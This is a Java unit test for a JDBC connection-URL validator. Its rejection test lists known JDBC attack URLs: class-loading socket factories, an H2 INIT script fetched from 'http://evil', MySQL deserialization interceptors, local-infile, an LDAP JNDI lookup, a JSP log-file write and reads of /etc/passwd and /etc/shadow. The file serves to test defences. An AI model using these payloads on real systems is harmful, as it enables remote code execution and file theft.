package io.yimen.connectors.extract;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.time.Duration;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class JdbcAddressTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://10.0.0.5:5432/sqfw",
                "jdbc:postgresql://10.0.0.5,10.0.0.6:5433/sqfw?sslmode=verify-full&targetServerType=primary",
                "jdbc:postgresql://[::1]:5432/sqfw?tcpKeepAlive=true",
                "jdbc:mariadb://db.example.cn:3306/平台?sslMode=verify-ca",
                "jdbc:dm://10.0.0.5:5236/SQFW",
                "jdbc:kingbase8://10.0.0.5:54321/sqfw",
                "jdbc:opengauss://10.0.0.5/sqfw",
                "jdbc:oceanbase://10.0.0.5:2881/sqfw",
            })
    void takesHostsDatabaseAndHarmlessParameters(String url) {
        assertThat(JdbcAddress.of(url, null).url()).isEqualTo(url);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://h/d?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "jdbc:postgresql://h/d?socketFactoryArg=http://evil/x.xml",
                "jdbc:postgresql://h/d?sslfactory=java.io.FileOutputStream&sslfactoryarg=/etc/passwd",
                "jdbc:postgresql://h/d?sslmode=require&sslhostnameverifier=x.Y",
                "jdbc:postgresql://h/d?sslpasswordcallback=x.Y",
                "jdbc:postgresql://h/d?authenticationPluginClassName=x.Y",
                "jdbc:postgresql://h/d?loggerLevel=DEBUG&loggerFile=/tmp/x.jsp",
                "jdbc:postgresql://h/d?sslkey=/etc/shadow",
                "jdbc:postgresql://h/d?service=x",
                "jdbc:postgresql://h/d?sslmode=require&%73ocketFactory=x.Y",
                "jdbc:postgresql://h/d?sslmode=verify-full&sslmode",
                "jdbc:postgresql://h/d?options=-c%20session_preload_libraries=x",
                "jdbc:postgresql://h/d?SOCKETFACTORY=x",
                "jdbc:postgresql:d",
                "jdbc:postgresql://u:p@h/d",
                "jdbc:mariadb://h/d?allowLocalInfile=true",
                "jdbc:mariadb://h/d?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
                "jdbc:mariadb://h/d?allowMultiQueries=true",
                "jdbc:mariadb://h/d?credentialType=ENV",
                "jdbc:mariadb://h/d?serverSslCert=/etc/passwd",
                "jdbc:mariadb://h/d?sslMode=verify-full&serverSslCert=/etc/passwd",
                "jdbc:mariadb://h/d?sslMode=verify-full&serverSslCert=/dev/zero",
                "jdbc:mariadb://h/d?sslMode=verify-full&serverSslCert=http://evil/x.pem",
                "jdbc:mariadb://h/d?sslMode=verify-full&sslMode=trust",
                "jdbc:postgresql://h/d?sslmode=verify-full&sslrootcert=/etc/passwd",
                "jdbc:mariadb://h/d?socketFactory=x.Y",
                "jdbc:mariadb://h/d?sslMode=trust;allowLocalInfile=true",
                "jdbc:mariadb://h/d?sslMode=trust#&allowLocalInfile=true",
                "jdbc:mariadb:replication://h/d",
                "jdbc:mariadb://address=(host=h)(localSocket=/tmp/s)/d",
                "jdbc:mysql://h/d?allowLoadLocalInfile=true",
                "jdbc:dm://h/d?loginMode=1",
                "jdbc:oceanbase://h/d?allowLocalInfile=true",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:db2://h:50000/d:clientRerouteServerListJNDIName=ldap://evil/x;",
                "jdbc:postgresql://h/d\n?socketFactory=x",
                "http://h/d",
            })
    void refusesWhatMayLoadClassesOrFilesOrAskOthers(String url) {
        assertThatThrownBy(() -> JdbcAddress.of(url, null))
                .isInstanceOf(IllegalArgumentException.class)
                .message()
                .doesNotContain("/etc/passwd")
                .doesNotContain("evil");
    }

    @Test
    void anUnknownKindNeedsItsDriverAndHasNoParameters() {
        assertThat(JdbcAddress.of("jdbc:gbase://h:5258/d", "com.gbase.jdbc.Driver")
                        .dialect())
                .isEqualTo(JdbcDialect.OTHER);
        assertThatThrownBy(() -> JdbcAddress.of("jdbc:gbase://h:5258/d?x=y", "com.gbase.jdbc.Driver"))
                .hasMessageContaining("parameter x");
        assertThatThrownBy(() -> JdbcAddress.of("jdbc:gbase://h:5258/d", "Driver; x"))
                .hasMessageContaining("no name of a class");
    }

    @Test
    void aClassThatIsNoDriverIsNotEvenInitialised() {
        JdbcAddress address = JdbcAddress.of("jdbc:gbase://h/d", Bait.class.getName());
        assertThatThrownBy(() -> address.connect("u", "p", Duration.ofSeconds(1)))
                .hasMessageContaining("there is no JDBC driver");
        assertThat(System.getProperty(Bait.PROPERTY)).isNull();
    }

    /** Leaves a trace when it is initialised. */
    static final class Bait {
        static final String PROPERTY = "yimen.test.bait";

        static {
            System.setProperty("yimen.test.bait", "taken");
        }

        private Bait() {}
    }
}
